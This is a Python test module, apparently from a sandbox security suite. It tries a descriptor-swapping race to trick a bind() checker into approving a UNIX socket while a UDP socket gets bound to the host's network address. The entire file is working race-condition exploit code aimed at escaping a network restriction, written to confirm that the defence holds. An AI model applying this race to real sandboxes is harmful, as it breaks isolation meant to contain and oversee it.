import ctypes
import os
import random
import socket
import struct
import sys
import threading

from tests.attacks.places import Places, flag_in, libc
from tests.attacks.races import tries

TITLE = "a descriptor that changes while it is looked at"
TRIES = "Shows a UNIX socket to whoever judges bind, and puts a UDP socket in its place."
PROMISE = "network"
MUST_FAIL = "A UDP socket hears loopback's device only, whatever address it is bound to."
ATTEMPTS = 1_500


def needs(places: Places) -> None:
    assert places.own_address, "no network on this machine"


def attack(places: Places) -> str | None:
    port, host = places.ports["raced"].to_bytes(2, "big"), socket.inet_aton(places.own_address)
    raw = struct.pack("=H", socket.AF_INET) + port + host + bytes(8)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    place, swaps, both = os.dup(unix.fileno()), list[int](), (udp.fileno(), unix.fileno())

    def swap() -> None:
        while True:
            # By chance: in turn, the two threads may fall into step, and each look meets the same.
            os.dup2(random.choice(both), place)
            swaps.append(1)

    sys.setswitchinterval(0.0005)
    threading.Thread(target=swap, daemon=True).start()
    udp.settimeout(places.arrives_s)
    for _ in tries(ATTEMPTS, lambda: len(swaps)):
        libc.bind(place, ctypes.c_char_p(raw), 16)
        if udp.getsockname()[0] == places.own_address:
            device = udp.getsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, 16)
            return None if device.startswith(b"lo\0") else flag_in(udp.recv(100))
    return None
